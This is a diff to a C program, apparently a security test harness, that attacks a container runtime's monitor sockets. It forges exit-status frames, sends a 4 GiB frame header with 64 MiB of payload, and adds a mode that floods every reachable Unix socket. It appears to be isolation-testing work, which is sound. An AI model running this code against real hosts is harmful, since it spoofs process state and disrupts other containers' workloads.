@@ -15,6 +15,10 @@
  *       victim's host pid), it prints "MONITOR NAME", writes a line to the
  *       victim's stdin, asks for its kill, and prints "LEAKED NAME" if it
  *       reads the victim's output.  Nothing is written to any other socket.
+ *   attack sockets any
+ *       The same, but every socket it reaches gets the forged frames of
+ *       `attack fds` (only for containers without the host's network: their
+ *       /proc/net/unix lists their own network namespace's sockets).
  *   Both end with "done".
  */
 #define _GNU_SOURCE
@@ -67,27 +71,30 @@ static size_t write_for(int fd, const unsigned char *buf, size_t len, double sec
     return done;
 }
 
-static int attack_fds(void) {
+/* A forged exit record, then a 4 GiB frame header and 64 MiB of its payload. */
+static size_t forge(int fd) {
     static const char exit_json[] =
         "{\"event\":\"exit\",\"exit_code\":0,\"finished_at\":\"2020-01-01T00:00:00Z\","
         "\"oom_killed\":false,\"error\":\"\"}";
+    static unsigned char *big;
+    size_t big_len = 64u << 20;
     unsigned char forged[256];
     size_t forged_len = frame(forged, 3, exit_json, sizeof exit_json - 1);
-    size_t big_len = 64u << 20;
-    unsigned char *big = calloc(1, 8 + big_len);
-    if (!big) return 1;
+    if (!big && !(big = calloc(1, 8 + big_len))) return 0;
     frame(big, 3, NULL, 0xffffffffu);
+    int flags = fcntl(fd, F_GETFL);
+    fcntl(fd, F_SETFL, flags | O_NONBLOCK);
+    size_t wrote = write_for(fd, forged, forged_len, 1.0);
+    return wrote + write_for(fd, big, 8 + big_len, 3.0);
+}
+
+static int attack_fds(void) {
     for (int fd = 3; fd < 64; fd++) {
         struct stat st;
         if (fstat(fd, &st) != 0) continue;
-        int flags = fcntl(fd, F_GETFL);
-        fcntl(fd, F_SETFL, flags | O_NONBLOCK);
-        size_t wrote = write_for(fd, forged, forged_len, 1.0);
-        wrote += write_for(fd, big, 8 + big_len, 3.0);
-        printf("fd %d: wrote %zu\n", fd, wrote);
+        printf("fd %d: wrote %zu\n", fd, forge(fd));
         fflush(stdout);
     }
-    free(big);
     return 0;
 }
 
@@ -151,6 +158,11 @@ static int attack_sockets(const char *victim_pid) {
         }
         printf("connected %s\n", path);
         fflush(stdout);
+        if (strcmp(victim_pid, "any") == 0) {
+            printf("forged %s: wrote %zu\n", path, forge(s));
+            close(s);
+            continue;
+        }
         char buf[65536];
         size_t got = read_for(s, buf, sizeof buf, 300);
         if (got >= 8 && buf[0] == 3 && contains(buf, got, hello_needle)) {
